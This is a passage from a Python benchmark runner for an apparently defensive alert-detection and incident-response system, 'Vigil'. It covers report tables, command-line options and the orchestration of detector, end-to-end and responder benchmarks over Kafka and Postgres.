            f"{comparison['formats_cost_pct']:.1f}% ({verdict} the {comparison['limit_pct']:.0f}% limit)",
        )
        table.add_row(
            "detector CPU per alert mixed / native",
            f"{_fmt(comparison['mixed_cpu_us_per_alert'])} / {_fmt(comparison['native_cpu_us_per_alert'])} us",
        )
    for mode, e2e in results.get("end_to_end", {}).items():
        add_end_to_end(table, mode, e2e)
    if results.get("responder"):
        responder.add_report(table, results["responder"])
    for error in results.get("errors", []):
        table.add_section()
        table.add_row(f"[red]{error['benchmark']} failed[/red]", Text(error["message"].splitlines()[0][:80]))
    console.print(table)


def add_throughput(table: Table, mode: str, throughput: dict[str, Any]) -> None:
    table.add_section()
    table.add_row(f"[bold]Detector throughput, {mode} alerts[/bold]", "")
    table.add_row("alerts pre-produced", _fmt(throughput["alerts"]))
    if mode != "native":
        table.add_row("records by format", ", ".join(f"{k} {v:,}" for k, v in throughput["records_by_format"].items()))
    table.add_row("mean record size", _fmt(throughput["mean_record_bytes"], " bytes"))
    table.add_row("detector throughput", _fmt(throughput["alerts_per_s"], " alerts/s"))
    table.add_row("processing time", _fmt(throughput["processing_s"], " s"))
    table.add_row("start-up to first stored alert", _fmt(throughput["startup_to_first_row_s"], " s"))
    table.add_row("incidents opened", _fmt(throughput["incidents_opened"]))
    table.add_row("events in the outbox", _fmt(throughput["outbox_events"]))
    table.add_row("outbox drained after the last alert", _fmt(throughput["outbox_drained_after_s"], " s"))
    table.add_row("detector CPU seconds", _fmt(throughput["detector_cpu_s"], " s"))
    table.add_row("detector CPU per alert (after start-up)", _fmt(throughput["detector_cpu_us_per_alert"], " us"))


def add_end_to_end(table: Table, mode: str, e2e: dict[str, Any]) -> None:
    table.add_section()
    table.add_row(f"[bold]End to end (five services), {mode} alerts[/bold]", "")
    table.add_row(
        "target rate / achieved publish rate",
        f"{e2e['target_rate_per_s']:,.0f} / {e2e['publish_rate_per_s']:,.0f} alerts/s",
    )
    table.add_row("alerts sent / seen in incident events", f"{e2e['alerts_sent']:,} / {e2e['alerts_seen']:,}")
    latency = e2e.get("latency_ms")
    if latency:
        for name in ("p50", "p95", "p99", "max"):
            table.add_row(f"alert -> incident event latency {name}", _fmt(latency[name], " ms"))
        table.add_row("end-to-end throughput", _fmt(e2e["throughput_per_s"], " alerts/s"))
    table.add_row("incidents opened", _fmt(e2e["incidents_opened"]))
    cpu = ", ".join(f"{name} {seconds:.0f}" for name, seconds in e2e["cpu_s"].items() if seconds is not None)
    table.add_row("CPU seconds by process", cpu)
    first = e2e.get("first_incident")
    table.add_row("first incident: timeline complete after", _fmt(first["timeline_complete_s"], " s") if first else "-")
    if first:
        for event_type, seconds in first["event_time_after_first_alert_s"].items():
            table.add_row(f"  {event_type.removeprefix('vigil.')}", _fmt(seconds, " s"))


# ---- main --------------------------------------------------------------------------------------


def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m bench.run", description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=100_000, help="alerts pre-produced for the detector benchmark")
    parser.add_argument("--rate", type=float, default=2000.0, help="alerts/s published in the end-to-end benchmark")
    parser.add_argument("--duration", type=float, default=15.0, help="seconds of publishing in the end-to-end one")
    parser.add_argument("--hosts", type=int, default=2000, help="hosts the alerts are spread over")
    parser.add_argument("--seed", type=int, default=1, help="seed of the alert generator")
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="where to write the figures as JSON")
    parser.add_argument("--only", choices=tuple(ONLY), help="run one benchmark only")
    parser.add_argument(
        "--formats",
        choices=(*formats.MODES, "both"),
        help="alerts as native JSON, in each tool's own format (mixed), or both in turn "
        "(default: both for the throughput benchmark, native end to end)",
    )
    parser.add_argument("--timeout", type=float, default=600.0, help="longest wait for a benchmark to finish (s)")
    parser.add_argument(
        "--stall",
        type=float,
        default=120.0,
        help="fail when the detector stores, or the responder finishes, nothing for (s)",
    )
    parser.add_argument("--ready-timeout", type=float, default=120.0, help="longest wait for a service's /readyz")
    parser.add_argument("--drain-idle", type=float, default=20.0, help="stop waiting for events after (s) of none")
    parser.add_argument("--incidents", type=int, default=100, help="incidents in each responder scenario")
    parser.add_argument("--incident-steps", type=int, default=10, help="webhook steps each incident's playbook makes")
    parser.add_argument(
        "--slow-delay", type=float, default=2.0, help="seconds the slow receiver takes to answer each step"
    )
    parser.add_argument(
        "--wait-slow",
        action="store_true",
        help="wait for every slow receiver's step too (incidents/2 x steps x delay / 2 s), not only the fast ones",
    )
    return parser.parse_args(argv)


async def run(args: argparse.Namespace) -> dict[str, Any]:
    task = asyncio.current_task()
    assert task is not None
    with contextlib.suppress(NotImplementedError):
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, task.cancel)
    settings = VigilSettings()
    results: dict[str, Any] = {
        "started_at": datetime.now(UTC).isoformat(timespec="seconds"),
        "machine": machine_info(),
        "parameters": {
            "alerts": args.alerts,
            "rate": args.rate,
            "duration_s": args.duration,
            "hosts": args.hosts,
            "seed": args.seed,
            "formats": {
                "detector_throughput": args.formats or "both",
                "end_to_end": args.formats or "native",
            },
            "consumer_batch_size": settings.consumer_batch_size,
            "consumer_poll_ms": settings.consumer_poll_ms,
            "responder": {
                "incidents": args.incidents,
                "incident_steps": args.incident_steps,
                "slow_delay_s": args.slow_delay,
                "wait_slow": args.wait_slow,
                "effects_poll_s": settings.effects_poll_s,
            },
        },
        "errors": [],
    }
    benchmarks: list[tuple[str, Callable[[Infrastructure, argparse.Namespace], Awaitable[dict[str, Any]]]]] = [
        ("detector_throughput", bench_detector),
        ("end_to_end", bench_end_to_end),
        ("responder", bench_responder),
    ]
    if args.only:
        benchmarks = [b for b in benchmarks if b[0] == ONLY[args.only]]
    # Only the responder's benchmark runs without the broker.
    with infrastructure(kafka_needed=any(name != "responder" for name, _ in benchmarks)) as infra:
        results["infrastructure"] = {"kafka": infra.kafka_kind, "postgres": infra.postgres_kind}
        where = "" if infra.kafka_kind == "not used" else f" at {infra.kafka.bootstrap_servers}"
        console.log(f"kafka: {infra.kafka_kind}{where}; postgres: {infra.postgres_kind}")
        for name, bench in benchmarks:
            console.rule(name.replace("_", " "))
            try:
                results[name] = await bench(infra, args)
            except BenchError as exc:
                if exc.partial:
                    results[name] = exc.partial
                console.print(f"[red]{name} failed:[/red]")
                console.print(str(exc), markup=False, highlight=False, soft_wrap=True)
                results["errors"].append({"benchmark": name, "message": str(exc)})
    return results


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    LOGS_DIR.mkdir(parents=True, exist_ok=True)
    try:
        results = asyncio.run(run(args))
    except (KeyboardInterrupt, asyncio.CancelledError):
        console.print("[red]interrupted[/red]: services, broker and Postgres stopped")
        return 130
    finally:
        kill_stragglers()
    print_report(results)
    out: Path = args.out
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps(results, indent=2) + "\n")
    console.log(f"figures written to {out}; service stderr in {LOGS_DIR}")
    return 1 if results["errors"] else 0


if __name__ == "__main__":
    sys.exit(main())
